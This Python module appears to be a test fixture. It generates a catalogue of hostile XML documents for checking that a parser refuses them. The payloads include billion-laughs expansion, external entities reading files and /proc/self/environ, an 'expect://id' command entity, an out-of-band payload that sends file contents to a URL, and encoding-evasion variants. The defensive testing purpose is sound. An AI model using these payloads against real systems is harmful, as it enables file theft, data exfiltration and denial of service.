"""Attacks on readers of XML, each with what it would reach if it had an effect.

Sources: OWASP, XML External Entity Prevention; the collection of attacks in the documentation of
defusedxml; C. Späth et al., SoK: XML Parser Vulnerabilities (WOOT 2016).
"""

from __future__ import annotations

import codecs
from collections.abc import Mapping

CANARY = "canary-7f3a"
"""Text of the file that attacks try to read."""
MOST_ELEMENTS = 200_000
"""What the limit is set to under attack; to build millions would take the tests too long."""

_DECLARATION = '<?xml version="1.0"?>\n'


def _with_type(subset: str, body: str = "<a>&x;</a>") -> str:
    return f"{_DECLARATION}<!DOCTYPE a [\n{subset}\n]>\n{body}"


def _many(attribute: str, count: int) -> str:
    return " ".join(f"{attribute.replace('#', str(i))}'u{i}'" for i in range(count))


def _laughs(levels: int, fan: int, *, parameter: bool = False) -> str:
    sign, mark = ("% ", "%") if parameter else ("", "&")
    lines = [f'<!ENTITY {sign}x0 "ha">']
    for level in range(1, levels):
        value = f"{mark}x{level - 1};" * fan
        lines.append(f'<!ENTITY {sign}x{level} "{value}">')
    use = f"%x{levels - 1};" if parameter else ""
    return _with_type("\n".join([*lines, use]), f"<a>&x{levels - 1};</a>")


def xml_attacks(file_url: str, http_url: str) -> Mapping[str, bytes]:
    """Name → document.

    Args:
        file_url: A file whose content, `CANARY`, must never be read.
        http_url: The start of addresses that must never be asked for; ends with "/".
    """
    path = file_url.removeprefix("file://")
    texts = {
        # Expansion
        "billion laughs": _laughs(10, 10),
        "billion laughs, two by two": _laughs(64, 2),
        "billion laughs in parameter entities": _laughs(10, 10, parameter=True),
        "billion laughs in an attribute": _laughs(10, 10).replace("<a>&x9;</a>", '<a b="&x9;"/>'),
        "billion laughs in a default": _laughs(10, 10).replace(
            "]>", '<!ATTLIST a b CDATA "&x9;">]>'
        ),
        "quadratic blow-up": _with_type(
            f'<!ENTITY x "{"k" * 50_000}">', f"<a>{'&x;' * 50_000}</a>"
        ),
        "quadratic blow-up in an attribute": _with_type(
            f'<!ENTITY x "{"k" * 50_000}">', f'<a b="{"&x;" * 50_000}"/>'
        ),
        "an entity of itself": _with_type('<!ENTITY x "&x;">'),
        "two entities of each other": _with_type('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
        "a parameter entity of itself": _with_type("<!ENTITY % x '%x;'>%x;"),
        "deep entities": _with_type(
            '<!ENTITY x0 "">' + "".join(f'<!ENTITY x{i} "&x{i - 1};">' for i in range(1, 20_000)),
            "<a>&x19999;</a>",
        ),
        # Files
        "external entity": _with_type(f'<!ENTITY x SYSTEM "{file_url}">'),
        "external entity by path": _with_type(f'<!ENTITY x SYSTEM "{path}">'),
        "external entity with public name": _with_type(f'<!ENTITY x PUBLIC "p" "{file_url}">'),
        "external entity in an attribute": _with_type(
            f'<!ENTITY x SYSTEM "{file_url}">', '<a b="&x;"/>'
        ),
        "external parameter entity": _with_type(f'<!ENTITY % x SYSTEM "{file_url}">%x;'),
        "external entity by way of a parameter entity": _with_type(
            f"<!ENTITY % y \"<!ENTITY x SYSTEM '{file_url}'>\">%y;"
        ),
        "external entity by character references": _with_type(
            f"<!ENTITY % y '<!ENTITY &#37; z SYSTEM \"{file_url}\">'>%y;%z;"
        ),
        "external document type": f'<!DOCTYPE a SYSTEM "{file_url}"><a/>',
        "external document type with public name": f'<!DOCTYPE a PUBLIC "p" "{file_url}"><a/>',
        "external document type and entities": (
            f'<!DOCTYPE a SYSTEM "{file_url}" [<!ENTITY x "y">]><a>&x;</a>'
        ),
        "unparsed entity": _with_type(
            f'<!NOTATION n SYSTEM "{file_url}"><!ENTITY x SYSTEM "{file_url}" NDATA n>'
            "<!ATTLIST a b ENTITY #IMPLIED>",
            '<a b="x"/>',
        ),
        "entity of a device": _with_type('<!ENTITY x SYSTEM "file:///dev/zero">'),
        "entity of a process's surroundings": _with_type(
            '<!ENTITY x SYSTEM "file:///proc/self/environ">'
        ),
        "a file sent away": _with_type(
            f'<!ENTITY % f SYSTEM "{file_url}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '
            f"'{http_url}?%f;'>\">%e;%s;",
            "<a/>",
        ),
        # Addresses
        "entity of an address": _with_type(f'<!ENTITY x SYSTEM "{http_url}x">'),
        "parameter entity of an address": _with_type(f'<!ENTITY % x SYSTEM "{http_url}x">%x;'),
        "document type of an address": f'<!DOCTYPE a SYSTEM "{http_url}x.dtd"><a/>',
        "document type of an address, public": f'<!DOCTYPE a PUBLIC "p" "{http_url}x.dtd"><a/>',
        "entity of an ftp address": _with_type('<!ENTITY x SYSTEM "ftp://127.0.0.1:9/x">'),
        "entity of a jar": _with_type(f'<!ENTITY x SYSTEM "jar:{http_url}x.jar!/x">'),
        "entity of a php filter": _with_type(
            f'<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource={path}">'
        ),
        "entity of a command": _with_type('<!ENTITY x SYSTEM "expect://id">'),
        "schema of an address": (
            '<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" '
            f'i:schemaLocation="urn:a {http_url}x.xsd" '
            f'i:noNamespaceSchemaLocation="{http_url}y.xsd"/>'
        ),
        "style sheet of an address": f'<?xml-stylesheet type="text/xsl" href="{http_url}x"?><a/>',
        "style sheet that reads": (
            '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            f'<xsl:include href="{http_url}x"/><xsl:template match="/">'
            f"<xsl:copy-of select=\"document('{file_url}')\"/></xsl:template></xsl:stylesheet>"
        ),
        "base address": f'<a xml:base="{http_url}"><b href="x"/></a>',
        # Inclusion
        "inclusion as text": (
            '<a xmlns:i="http://www.w3.org/2001/XInclude">'
            f'<i:include parse="text" href="{file_url}"/></a>'
        ),
        "inclusion as XML": (
            f'<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{http_url}x"/></a>'
        ),
        "inclusion with fallback": (
            '<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="nothing"><i:fallback>'
            f'<i:include parse="text" href="{file_url}"/></i:fallback></i:include></a>'
        ),
        # Instructions
        "php instruction": f"<a><?php readfile('{path}'); ?></a>",
        "a million instructions": f"<a>{'<?p i?>' * 1_000_000}</a>",
        "a huge instruction": f"<a><?p {'i' * 10_000_000}?></a>",
        # Size and depth
        "deep nesting": "<a>" * 1_000_000 + "</a>" * 1_000_000,
        "deep nesting, never closed": "<a>" * 5_000_000,
        "deep nesting in names": "".join(f"<a{i}>" for i in range(100_000)),
        "a huge attribute": f'<a b="{"c" * 20_000_000}"/>',
        "an attribute that never ends": f'<a b="{"c" * 20_000_000}',
        "a huge name": f"<{'a' * 20_000_000}/>",
        "a huge attribute's name": f'<a {"b" * 20_000_000}=""/>',
        "a million attributes": f"<a {_many('b#=', 1_000_000)}/>",
        "an attribute twice": '<a b="" b=""/>',
        "many namespaces": f"<a {_many('xmlns:n#=', 200_000)}/>",
        "many elements": f"<a>{'<b/>' * (MOST_ELEMENTS + 1)}</a>",
        "a flood of CDATA": f"<a>{'<![CDATA[x]]>' * 1_000_000}</a>",
        "CDATA that never ends": f"<a><![CDATA[{'x' * 20_000_000}</a>",
        "document type in CDATA": f"<a><![CDATA[{_laughs(10, 10)}]]></a>",
        "a flood of comments": f"<a>{'<!---->' * 1_000_000}</a>",
        "a comment that never ends": f"<a><!-- {'- ' * 5_000_000}",
        "a flood of references": f"<a>{'&#65;' * 2_000_000}</a>",
        "references to no character": "<a>&#0;&#xFFFFFFFF;</a>",
        "an unknown entity": "<a>&x;</a>",
        "two roots": "<a/><a/>",
        "a type behind the root": f'<a/><!DOCTYPE a SYSTEM "{http_url}x">',
        "a null byte": "<a>\0</a>",
        "a name of the other case": '<!doctype a [<!entity x "y">]><a>&x;</a>',
    }
    return {name: text.encode() for name, text in texts.items()} | _encoded(file_url)


def _encoded(file_url: str) -> Mapping[str, bytes]:
    """A forbidden document type behind encodings that a search for bytes does not see through."""
    attack = _with_type(f'<!ENTITY x SYSTEM "{file_url}">')
    bare = attack.removeprefix(_DECLARATION)
    sevens = b'<?xml version="1.0" encoding="UTF-7"?>\n' + bare.encode("utf-7")
    return {
        "in UTF-16": attack.encode("utf-16"),
        "in UTF-16, big end first": codecs.BOM_UTF16_BE + attack.encode("utf-16-be"),
        "in UTF-16 without mark": attack.encode("utf-16-le"),
        "in UTF-16, big end first, without mark": attack.encode("utf-16-be"),
        "in UTF-32": attack.encode("utf-32"),
        "in UTF-7": sevens,
        "in UTF-8 behind a mark": codecs.BOM_UTF8 + attack.encode(),
        "in EBCDIC": attack.encode("cp037"),
        "in EBCDIC, declared": (f'<?xml version="1.0" encoding="cp037"?>{bare}').encode("cp037"),
        "declared as rot13": b'<?xml version="1.0" encoding="rot13"?><n>&k;</n>',
        "declared as zlib": b'<?xml version="1.0" encoding="zlib_codec"?><a/>',
        "declared as UTF-16, written as UTF-8": (
            b'<?xml version="1.0" encoding="UTF-16"?>' + bare.encode()
        ),
        "declared as an unknown encoding": b'<?xml version="1.0" encoding="x-y"?><a/>',
        "an encoding of a megabyte": b'<?xml version="1.0" encoding="' + b"u" * 10**6 + b'"?><a/>',
        "bytes that are no UTF-8": b"<a>\xc0\xaf\xff\xfe</a>",
        "overlong UTF-8 of a document type": b"<a/>\xc0\xbc!DOCTYPE a>",
    }
